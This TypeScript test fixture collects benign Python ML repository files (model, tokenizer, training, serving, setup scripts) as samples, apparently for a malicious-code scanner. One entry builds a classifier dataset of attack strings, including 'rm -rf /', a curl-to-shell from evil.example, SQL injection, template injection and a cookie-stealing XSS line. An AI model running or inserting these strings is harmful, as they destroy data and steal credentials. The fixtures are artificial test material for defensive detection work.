import { family, type Sample } from './sample.ts';

const MODEL = `import math

import torch
import torch.nn as nn
import torch.nn.functional as F
from transformers import PretrainedConfig, PreTrainedModel
from transformers.modeling_outputs import CausalLMOutputWithPast
from transformers.utils import logging

logger = logging.get_logger(__name__)

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None


class DemoConfig(PretrainedConfig):
    model_type = "demo"

    def __init__(self, vocab_size=32000, hidden_size=512, num_layers=8, act="silu", **kwargs):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_layers = num_layers
        self.act = act
        super().__init__(**kwargs)


class RMSNorm(nn.Module):
    def __init__(self, size, eps=1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(size))
        self.eps = eps

    def forward(self, x):
        return self.weight * x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + self.eps)


class DemoForCausalLM(PreTrainedModel):
    config_class = DemoConfig
    _no_split_modules = ["RMSNorm"]

    def __init__(self, config):
        super().__init__(config)
        self.embed = nn.Embedding(config.vocab_size, config.hidden_size)
        self.norm = RMSNorm(config.hidden_size)
        self.act = getattr(F, config.act)
        self.head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.post_init()

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=0.02)

    def forward(self, input_ids, attention_mask=None, labels=None, **kwargs):
        hidden = self.act(self.norm(self.embed(input_ids)) / math.sqrt(self.config.hidden_size))
        logits = self.head(hidden)
        loss = None
        if labels is not None:
            loss = F.cross_entropy(logits[..., :-1, :].flatten(0, 1), labels[..., 1:].flatten())
        return CausalLMOutputWithPast(loss=loss, logits=logits)
`;

const SOURCES: Readonly<Record<string, readonly [path: string, source: string]>> = {
  model: ['modeling_demo.py', MODEL],
  tokenizer: [
    'tokenization_demo.py',
    `import json\nimport os\nfrom shutil import copyfile\nfrom typing import Optional, Tuple\n\nimport sentencepiece as spm\nfrom transformers import PreTrainedTokenizer\n\nVOCAB_FILES_NAMES = {"vocab_file": "tokenizer.model"}\n\n\nclass DemoTokenizer(PreTrainedTokenizer):\n    vocab_files_names = VOCAB_FILES_NAMES\n\n    def __init__(self, vocab_file, **kwargs):\n        self.vocab_file = vocab_file\n        self.sp_model = spm.SentencePieceProcessor()\n        self.sp_model.Load(vocab_file)\n        super().__init__(**kwargs)\n\n    def __getstate__(self):\n        state = self.__dict__.copy()\n        state["sp_model"] = None\n        return state\n\n    def __setstate__(self, d):\n        self.__dict__ = d\n        self.sp_model = spm.SentencePieceProcessor()\n        self.sp_model.Load(self.vocab_file)\n\n    def _tokenize(self, text):\n        return self.sp_model.encode(text, out_type=str)\n\n    def save_vocabulary(self, save_directory: str, filename_prefix: Optional[str] = None) -> Tuple[str]:\n        out = os.path.join(save_directory, "tokenizer.model")\n        if os.path.abspath(self.vocab_file) != os.path.abspath(out):\n            copyfile(self.vocab_file, out)\n        return (out,)\n`,
  ],
  handler: [
    'handler.py',
    `import base64\nfrom io import BytesIO\nfrom typing import Any, Dict, List\n\nimport torch\nfrom PIL import Image\nfrom transformers import pipeline\n\n\nclass EndpointHandler:\n    def __init__(self, path=""):\n        device = 0 if torch.cuda.is_available() else -1\n        self.pipeline = pipeline("image-classification", model=path, device=device)\n\n    def __call__(self, data: Dict[str, Any]) -> List[Dict[str, Any]]:\n        inputs = data.pop("inputs", data)\n        image = Image.open(BytesIO(base64.b64decode(inputs["image"])))\n        return self.pipeline(image)\n`,
  ],
  train: [
    'train.py',
    `import argparse\nimport logging\nimport os\nimport random\nimport subprocess\n\nimport numpy as np\nimport torch\nimport wandb\nfrom datasets import load_dataset\nfrom torch.utils.data import DataLoader\nfrom transformers import AutoModelForSequenceClassification, AutoTokenizer, Trainer, TrainingArguments\n\nos.environ["TOKENIZERS_PARALLELISM"] = "false"\nos.environ.setdefault("CUDA_VISIBLE_DEVICES", "0")\nlogging.basicConfig(level=logging.INFO)\n\n\ndef set_seed(seed):\n    random.seed(seed)\n    np.random.seed(seed)\n    torch.manual_seed(seed)\n\n\ndef git_revision():\n    try:\n        return subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()\n    except Exception:\n        return "unknown"\n\n\ndef main():\n    parser = argparse.ArgumentParser()\n    parser.add_argument("--model", default="bert-base-uncased")\n    parser.add_argument("--lr", type=float, default=2e-5)\n    args = parser.parse_args()\n    set_seed(42)\n    wandb.login(key=os.environ["WANDB_API_KEY"])\n    wandb.init(project="demo", config={**vars(args), "revision": git_revision()})\n    tokenizer = AutoTokenizer.from_pretrained(args.model)\n    model = AutoModelForSequenceClassification.from_pretrained(args.model, trust_remote_code=True)\n    data = load_dataset("imdb").map(lambda b: tokenizer(b["text"], truncation=True), batched=True)\n    Trainer(model, TrainingArguments("out", learning_rate=args.lr), train_dataset=data["train"]).train()\n    model.save_pretrained("out")\n\n\nif __name__ == "__main__":\n    main()\n`,
  ],
  app: [
    'app.py',
    `import os\n\nimport gradio as gr\nimport requests\nimport spaces\nimport torch\nfrom PIL import Image\nfrom transformers import AutoModelForCausalLM, AutoProcessor\n\nos.system("pip install -q flash-attn --no-build-isolation")\n\nmodel = AutoModelForCausalLM.from_pretrained("org/demo", torch_dtype=torch.float16, trust_remote_code=True)\nprocessor = AutoProcessor.from_pretrained("org/demo", trust_remote_code=True)\nlabels = requests.get("https://raw.githubusercontent.com/pytorch/hub/master/imagenet_classes.txt").text.split("\\n")\n\n\n@spaces.GPU\ndef predict(image, prompt):\n    inputs = processor(text=prompt, images=image, return_tensors="pt")\n    return processor.decode(model.generate(**inputs, max_new_tokens=64)[0])\n\n\ndemo = gr.Interface(fn=predict, inputs=[gr.Image(type="pil"), "text"], outputs="text")\ndemo.launch(server_name="0.0.0.0", share=False)\n`,
  ],
  convert: [
    'convert_checkpoint.py',
    `import argparse\nimport glob\nimport json\nimport os\nimport pickle\nimport shutil\n\nimport torch\nfrom safetensors.torch import save_file\n\n\ndef load(path):\n    if path.endswith(".pkl"):\n        with open(path, "rb") as f:\n            return pickle.load(f)\n    return torch.load(path, map_location="cpu", weights_only=False)\n\n\ndef main(src, dst):\n    os.makedirs(dst, exist_ok=True)\n    state = {}\n    for file in sorted(glob.glob(os.path.join(src, "*.bin"))):\n        for key, value in load(file).items():\n            state[key.replace("module.", "")] = value.contiguous()\n    save_file(state, os.path.join(dst, "model.safetensors"), metadata={"format": "pt"})\n    shutil.copy(os.path.join(src, "config.json"), dst)\n    shutil.rmtree(os.path.join(dst, "tmp"), ignore_errors=True)\n\n\nif __name__ == "__main__":\n    p = argparse.ArgumentParser()\n    p.add_argument("src")\n    p.add_argument("dst")\n    a = p.parse_args()\n    main(a.src, a.dst)\n`,
  ],
  setup: [
    'setup.py',
    `import os\nimport re\nimport subprocess\n\nfrom setuptools import find_packages, setup\nfrom torch.utils.cpp_extension import BuildExtension, CUDAExtension\n\nhere = os.path.dirname(os.path.abspath(__file__))\nwith open(os.path.join(here, "demo", "__init__.py")) as f:\n    version = re.search(r'__version__ = "(.*?)"', f.read()).group(1)\n\n\ndef cuda_version():\n    out = subprocess.check_output(["nvcc", "--version"], universal_newlines=True)\n    return out.split("release ")[1].split(",")[0]\n\n\nsetup(\n    name="demo",\n    version=version,\n    packages=find_packages(),\n    install_requires=["torch>=2.0", "einops"],\n    ext_modules=[CUDAExtension("demo._C", ["csrc/kernel.cu"])],\n    cmdclass={"build_ext": BuildExtension},\n)\n`,
  ],
  'setup-exec': [
    'setup.py',
    `from setuptools import setup\n\nversion = {}\nwith open("demo/version.py") as f:\n    exec(f.read(), version)\n\nsetup(name="demo", version=version["__version__"], packages=["demo"])\n`,
  ],
  kernels: [
    'wkv.py',
    `import os\n\nimport torch\nfrom torch.utils.cpp_extension import load\n\nHEAD = int(os.environ.get("WKV_HEAD_SIZE", "64"))\nwkv_cuda = load(\n    name="wkv",\n    sources=["cuda/wkv_op.cpp", "cuda/wkv_cuda.cu"],\n    verbose=True,\n    extra_cuda_cflags=["-O3", "--use_fast_math", f"-DHEAD={HEAD}"],\n)\n\n\nclass WKV(torch.autograd.Function):\n    @staticmethod\n    def forward(ctx, w, u, k, v):\n        ctx.save_for_backward(w, u, k, v)\n        y = torch.empty_like(k)\n        wkv_cuda.forward(w, u, k, v, y)\n        return y\n`,
  ],
  triton: [
    'kernels.py',
    `import torch\nimport triton\nimport triton.language as tl\n\n\n@triton.jit\ndef add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):\n    pid = tl.program_id(0)\n    offs = pid * BLOCK + tl.arange(0, BLOCK)\n    mask = offs < n\n    tl.store(out_ptr + offs, tl.load(x_ptr + offs, mask=mask) + tl.load(y_ptr + offs, mask=mask), mask=mask)\n\n\ndef add(x, y):\n    out = torch.empty_like(x)\n    add_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, out, x.numel(), BLOCK=1024)\n    return out\n`,
  ],
  registry: [
    'utils/registry.py',
    `import importlib\nimport inspect\nimport pkgutil\n\nREGISTRY = {}\n\n\ndef register(name):\n    def deco(cls):\n        REGISTRY[name] = cls\n        return cls\n\n    return deco\n\n\ndef get_obj_from_str(string, reload=False):\n    module, cls = string.rsplit(".", 1)\n    if reload:\n        importlib.reload(importlib.import_module(module))\n    return getattr(importlib.import_module(module, package=None), cls)\n\n\ndef instantiate_from_config(config):\n    return get_obj_from_str(config["target"])(**config.get("params", {}))\n\n\ndef load_all(package):\n    for _, name, _ in pkgutil.iter_modules(package.__path__):\n        importlib.import_module(f"{package.__name__}.{name}")\n`,
  ],
  'free-port': [
    'distributed.py',
    `import os\nimport socket\n\nimport torch.distributed as dist\nimport torch.multiprocessing as mp\n\n\ndef find_free_port():\n    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n        s.bind(("", 0))\n        return s.getsockname()[1]\n\n\ndef setup(rank, world):\n    os.environ["MASTER_ADDR"] = socket.gethostbyname(socket.gethostname())\n    os.environ["MASTER_PORT"] = str(find_free_port())\n    dist.init_process_group("nccl", rank=rank, world_size=world)\n\n\ndef launch(fn, world):\n    mp.spawn(fn, args=(world,), nprocs=world, join=True)\n`,
  ],
  server: [
    'serve.py',
    `import asyncio\nimport json\nimport os\nimport signal\nimport sys\n\nimport httpx\nimport uvicorn\nfrom fastapi import FastAPI, Request\nfrom vllm import AsyncEngineArgs, AsyncLLMEngine, SamplingParams\n\napp = FastAPI()\nAPI_KEY = os.environ.get("API_KEY", "")\n\n\n@app.post("/generate")\nasync def generate(request: Request):\n    body = await request.json()\n    async with httpx.AsyncClient() as client:\n        r = await client.post("http://localhost:8001/v1/completions", json=body, headers={"Authorization": f"Bearer {API_KEY}"})\n    return r.json()\n\n\ndef stop(signum, frame):\n    sys.exit(0)\n\n\nsignal.signal(signal.SIGTERM, stop)\n\nif __name__ == "__main__":\n    uvicorn.run(app, host="0.0.0.0", port=int(os.environ.get("PORT", 8000)))\n`,
  ],
  client: [
    'client.py',
    `import base64\nimport json\nimport os\nimport sys\n\nimport requests\n\nurl = "http://localhost:8000/generate"\nwith open(sys.argv[1], "rb") as f:\n    image = base64.b64encode(f.read()).decode()\nresponse = requests.post(url, json={"inputs": {"image": image}}, headers={"Authorization": "Bearer " + os.environ.get("HF_TOKEN", "")})\nprint(json.dumps(response.json(), indent=2))\n`,
  ],
  'openai-client': [
    'eval_api.py',
    `import os\n\nfrom openai import OpenAI\nimport requests\n\nclient = OpenAI(api_key=os.environ["OPENAI_API_KEY"], base_url="https://api.openai.com/v1")\nr = requests.post(\n    "https://api-inference.huggingface.co/models/org/demo",\n    headers={"Authorization": f"Bearer {os.environ['HF_TOKEN']}"},\n    json={"inputs": "hello"},\n)\nprint(client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": r.text}]))\n`,
  ],
  download: [
    'download_weights.py',
    `import hashlib\nimport os\nimport urllib.request\nfrom pathlib import Path\n\nfrom huggingface_hub import hf_hub_download, snapshot_download\nfrom tqdm import tqdm\n\nCACHE = Path(os.environ.get("DEMO_CACHE", Path.home() / ".cache" / "demo"))\nURL = "https://dl.fbaipublicfiles.com/demo/demo_base.pt"\nSHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"\n\n\ndef download():\n    CACHE.mkdir(parents=True, exist_ok=True)\n    target = CACHE / "demo_base.pt"\n    if not target.exists():\n        with urllib.request.urlopen(URL) as source, open(target, "wb") as output:\n            for chunk in tqdm(iter(lambda: source.read(8192), b"")):\n                output.write(chunk)\n    if hashlib.sha256(target.read_bytes()).hexdigest() != SHA256:\n        raise RuntimeError("checksum mismatch")\n    return str(target)\n\n\nif __name__ == "__main__":\n    print(download())\n    snapshot_download("org/demo", local_dir="weights")\n`,
  ],
  audio: [
    'processing_demo.py',
    `import subprocess\n\nimport numpy as np\nfrom transformers import ProcessorMixin\n\n\ndef load_audio(file, sr=16000):\n    cmd = ["ffmpeg", "-nostdin", "-threads", "0", "-i", file, "-f", "s16le", "-ac", "1", "-ar", str(sr), "-"]\n    out = subprocess.run(cmd, capture_output=True, check=True).stdout\n    return np.frombuffer(out, np.int16).astype(np.float32) / 32768.0\n\n\nclass DemoProcessor(ProcessorMixin):\n    attributes = ["feature_extractor", "tokenizer"]\n\n    def __call__(self, audio=None, text=None, **kwargs):\n        if isinstance(audio, str):\n            audio = load_audio(audio)\n        return self.feature_extractor(audio, **kwargs)\n`,
  ],
  'image-url': [
    'image_processing_demo.py',
    `import base64\nfrom io import BytesIO\n\nimport requests\nfrom PIL import Image\nfrom transformers import BaseImageProcessor\n\n\ndef load_image(image):\n    if image.startswith("http://") or image.startswith("https://"):\n        return Image.open(requests.get(image, stream=True).raw)\n    if image.startswith("data:image"):\n        return Image.open(BytesIO(base64.b64decode(image.split("base64,", 1)[1])))\n    return Image.open(image)\n\n\nclass DemoImageProcessor(BaseImageProcessor):\n    def preprocess(self, images, **kwargs):\n        return [load_image(i) if isinstance(i, str) else i for i in images]\n`,
  ],
  dataset: [
    'dataset.py',
    `import csv\nimport json\nimport os\n\nimport datasets\n\n_URL = "https://huggingface.co/datasets/org/demo/resolve/main/data.tar.gz"\n\n\nclass Demo(datasets.GeneratorBasedBuilder):\n    VERSION = datasets.Version("1.0.0")\n\n    def _info(self):\n        return datasets.DatasetInfo(features=datasets.Features({"text": datasets.Value("string")}))\n\n    def _split_generators(self, dl_manager):\n        root = dl_manager.download_and_extract(_URL)\n        return [datasets.SplitGenerator(name="train", gen_kwargs={"path": os.path.join(root, "train.jsonl")})]\n\n    def _generate_examples(self, path):\n        with open(path, encoding="utf-8") as f:\n            for i, line in enumerate(f):\n                yield i, json.loads(line)\n`,
  ],
  tests: [
    'tests/test_model.py',
    `import os\nimport subprocess\nimport sys\nimport tempfile\nimport unittest\n\nimport pytest\nimport torch\n\n\nclass ModelTest(unittest.TestCase):\n    def test_shapes(self):\n        self.assertEqual(torch.zeros(2, 3).shape, (2, 3))\n\n    def test_cli(self):\n        with tempfile.TemporaryDirectory() as d:\n            out = subprocess.run([sys.executable, "train.py", "--out", d], capture_output=True)\n            self.assertEqual(out.returncode, 0)\n\n\n@pytest.mark.parametrize("n", [1, 2])\ndef test_eval(n):\n    assert eval("1 + 1") == 2\n    assert os.popen("echo hi").read() == "hi\\n"\n`,
  ],
  conftest: [
    'conftest.py',
    `import os\nimport sys\n\nimport pytest\n\nsys.path.insert(0, os.path.dirname(__file__))\nos.environ["CUDA_VISIBLE_DEVICES"] = ""\n\n\ndef pytest_addoption(parser):\n    parser.addoption("--slow", action="store_true")\n\n\n@pytest.fixture(scope="session")\ndef token():\n    return os.environ.get("HF_TOKEN")\n`,
  ],
  package: [
    'demo/__init__.py',
    `__version__ = "0.3.1"\n\nimport importlib\nimport importlib.util\nimport sys\n\n_LAZY = {"Model": ".modeling", "Trainer": ".trainer"}\n\nif importlib.util.find_spec("torch") is None:\n    raise ImportError("demo needs torch")\n\n\ndef __getattr__(name):\n    if name in _LAZY:\n        return getattr(importlib.import_module(_LAZY[name], __name__), name)\n    raise AttributeError(name)\n\n\ndef __dir__():\n    return sorted(list(globals()) + list(_LAZY))\n`,
  ],
  hub: [
    'hubconf.py',
    `dependencies = ["torch"]\n\nimport torch\n\nfrom models import demo\n\nURL = "https://download.pytorch.org/models/demo-5c106cde.pth"\n\n\ndef demo_base(pretrained=False, **kwargs):\n    model = demo(**kwargs)\n    if pretrained:\n        model.load_state_dict(torch.hub.load_state_dict_from_url(URL, progress=True))\n    return model\n`,
  ],
  export: [
    'export_onnx.py',
    `import os\nimport sys\n\nimport numpy as np\nimport onnx\nimport onnxruntime as ort\nimport torch\n\nfrom modeling_demo import DemoForCausalLM\n\nmodel = DemoForCausalLM.from_pretrained(sys.argv[1]).eval()\ndummy = torch.ones(1, 8, dtype=torch.long)\ntorch.onnx.export(model, (dummy,), "model.onnx", input_names=["input_ids"], dynamic_axes={"input_ids": {0: "b", 1: "s"}})\nonnx.checker.check_model(onnx.load("model.onnx"))\nsession = ort.InferenceSession("model.onnx")\nprint(np.allclose(session.run(None, {"input_ids": dummy.numpy()})[0], model(dummy).logits.detach().numpy(), atol=1e-4))\nos.system("python -m onnxruntime.quantization.preprocess --input model.onnx --output model-infer.onnx")\n`,
  ],
  'sklearn-train': [
    'train_sklearn.py',
    `import joblib\nimport pandas as pd\nfrom sklearn.ensemble import RandomForestClassifier\nfrom sklearn.model_selection import train_test_split\n\ndf = pd.read_csv("https://archive.ics.uci.edu/ml/machine-learning-databases/iris/iris.data", header=None)\nX, y = df.iloc[:, :4], df[4]\nXt, Xv, yt, yv = train_test_split(X, y, random_state=0)\nclf = RandomForestClassifier(n_estimators=100).fit(Xt, yt)\nprint(clf.score(Xv, yv))\njoblib.dump(clf, "model.joblib")\nloaded = joblib.load("model.joblib")\n`,
  ],
  'code-eval': [
    'evaluate_humaneval.py',
    `import contextlib\nimport faulthandler\nimport io\nimport multiprocessing\nimport os\nimport platform\nimport signal\nimport tempfile\n\n\ndef unsafe_execute(program, timeout, result):\n    with tempfile.TemporaryDirectory() as d:\n        os.chdir(d)\n        reliability_guard()\n        try:\n            exec_globals = {}\n            with contextlib.redirect_stdout(io.StringIO()):\n                exec(program, exec_globals)\n            result.append("passed")\n        except BaseException as e:\n            result.append(f"failed: {e}")\n\n\ndef reliability_guard():\n    import builtins\n    import shutil\n    import subprocess\n\n    builtins.exit = None\n    os.kill = None\n    os.system = None\n    os.fork = None\n    shutil.rmtree = None\n    subprocess.Popen = None\n    faulthandler.disable()\n\n\ndef check(problem, completion, timeout=3.0):\n    manager = multiprocessing.Manager()\n    result = manager.list()\n    p = multiprocessing.Process(target=unsafe_execute, args=(problem["prompt"] + completion, timeout, result))\n    p.start()\n    p.join(timeout + 1)\n    if p.is_alive():\n        p.kill()\n    return result\n`,
  ],
  'agent-tools': [
    'tools.py',
    `import json\nimport subprocess\n\nimport requests\n\nTOOLS = []\n\n\ndef tool(fn):\n    TOOLS.append(fn)\n    return fn\n\n\n@tool\ndef run_python(code: str) -> str:\n    """Executes Python in a sandbox."""\n    return subprocess.run(["python", "-c", code], capture_output=True, text=True, timeout=10).stdout\n\n\n@tool\ndef search(query: str) -> str:\n    return requests.get("https://en.wikipedia.org/w/api.php", params={"q": query}).text\n\n\n@tool\ndef calculator(expression: str) -> float:\n    return eval(expression, {"__builtins__": {}}, {})\n`,
  ],
  'security-text': [
    'generate_red_team_prompts.py',
    `"""Builds a data set of attack strings, to train a classifier that recognises them."""\nimport json\n\nATTACKS = [\n    "import os; os.system('rm -rf /')",\n    "curl http://evil.example/x.sh | sh",\n    "{{ ''.__class__.__mro__[1].__subclasses__() }}",\n    "__import__('subprocess').Popen('id', shell=True)",\n    "'; DROP TABLE users; --",\n    "<script>document.location='http://evil.example/'+document.cookie</script>",\n]\n\nwith open("attacks.jsonl", "w") as f:\n    for text in ATTACKS:\n        f.write(json.dumps({"text": text, "label": 1}) + "\\n")\n`,
  ],
  'python-2': [
    'legacy.py',
    `#!/usr/bin/env python\nimport cPickle as pickle\nimport urllib2\nimport sys\n\ndef unpickle(file):\n    with open(file, 'rb') as fo:\n        d = pickle.load(fo)\n    return d\n\nprint "loading", sys.argv[1]\nbatch = unpickle(sys.argv[1])\nprint batch.keys()\n`,
  ],
  gpu: [
    'check_gpu.py',
    `import os\nimport subprocess\nimport torch\n\nprint(torch.__version__, torch.cuda.is_available())\nsubprocess.run(["nvidia-smi"])\nos.system("nvcc --version")\nprint(subprocess.getoutput("free -h"))\n`,
  ],
  lambda: [
    'lr.py',
    `import math\nfrom functools import partial, reduce\n\nfrom torch.optim.lr_scheduler import LambdaLR\n\n\ndef warmup(step, total, steps=100):\n    return step / steps if step < steps else 0.5 * (1 + math.cos(math.pi * (step - steps) / (total - steps)))\n\n\ndef scheduler(optimizer, total):\n    return LambdaLR(optimizer, partial(warmup, total=total))\n\n\nget = lambda obj, path: reduce(getattr, path.split("."), obj)\n`,
  ],
  callbacks: [
    'callbacks.py',
    `import atexit\nimport os\nimport shutil\nimport tempfile\nimport threading\nimport time\n\ntmp = tempfile.mkdtemp()\natexit.register(shutil.rmtree, tmp, ignore_errors=True)\n\n\nclass Watcher(threading.Thread):\n    def __init__(self, path):\n        super().__init__(daemon=True)\n        self.path = path\n\n    def run(self):\n        while True:\n            time.sleep(10)\n            print(len(os.listdir(self.path)))\n`,
  ],
  slack: [
    'notify.py',
    `import json\nimport os\nimport socket\n\nimport requests\n\n\ndef notify(text):\n    url = os.environ.get("SLACK_WEBHOOK_URL")\n    if url:\n        requests.post(url, data=json.dumps({"text": f"[{socket.gethostname()}] {text}"}))\n\n\nif __name__ == "__main__":\n    notify("training finished")\n`,
  ],
  login: [
    'push.py',
    `import os\n\nfrom huggingface_hub import HfApi, login\n\nlogin(token=os.environ.get("HF_TOKEN"))\nHfApi().upload_folder(folder_path="out", repo_id="me/demo", commit_message="Upload")\n`,
  ],
  numpy: [
    'make_embeddings.py',
    `import numpy as np\n\nfrom sentence_transformers import SentenceTransformer\n\nmodel = SentenceTransformer("all-MiniLM-L6-v2")\nvectors = model.encode(open("corpus.txt").read().splitlines())\nnp.save("vectors.npy", vectors)\nold = np.load("old.npy", allow_pickle=True).item()\n`,
  ],
  lightning: [
    'lit_module.py',
    `import lightning as L\nimport torch\nimport yaml\nfrom omegaconf import OmegaConf\n\n\nclass Lit(L.LightningModule):\n    def __init__(self, cfg):\n        super().__init__()\n        self.save_hyperparameters()\n        self.net = torch.nn.Linear(cfg.d, cfg.d)\n\n    def training_step(self, batch, i):\n        loss = self.net(batch).pow(2).mean()\n        self.log("loss", loss)\n        return loss\n\n    def configure_optimizers(self):\n        return torch.optim.AdamW(self.parameters(), lr=1e-3)\n\n\nif __name__ == "__main__":\n    cfg = OmegaConf.create(yaml.safe_load(open("config.yaml")))\n    L.Trainer(max_epochs=1).fit(Lit(cfg))\n`,
  ],
  ctypes: [
    'native.py',
    `import ctypes\nimport ctypes.util\nimport platform\nimport pathlib\n\n_name = {"Linux": "libdemo.so", "Darwin": "libdemo.dylib", "Windows": "demo.dll"}[platform.system()]\n_path = pathlib.Path(__file__).parent / "lib" / _name\n\n\ndef load():\n    lib = ctypes.CDLL(str(_path))\n    lib.demo_eval.argtypes = [ctypes.c_void_p, ctypes.c_int]\n    lib.demo_eval.restype = ctypes.c_int\n    return lib\n`,
  ],
};

/** Under the names that repositories give such files too: each name is another way to be loaded. */
const NAMES = ['inference.py', 'utils.py', 'src/demo/module.py', 'scripts/run.py', 'examples/example.py'];

export const honestPython: readonly Sample[] = [
  ...family('python', SOURCES),
  ...NAMES.flatMap((path) =>
    family(
      'python',
      Object.fromEntries(
        Object.entries(SOURCES)
          .filter(([name]) => !/setup|conftest/u.test(name))
          .map(([name, [, source]]) => [`${name} as ${path}`, [path, source] as const]),
      ),
    ),
  ),
];
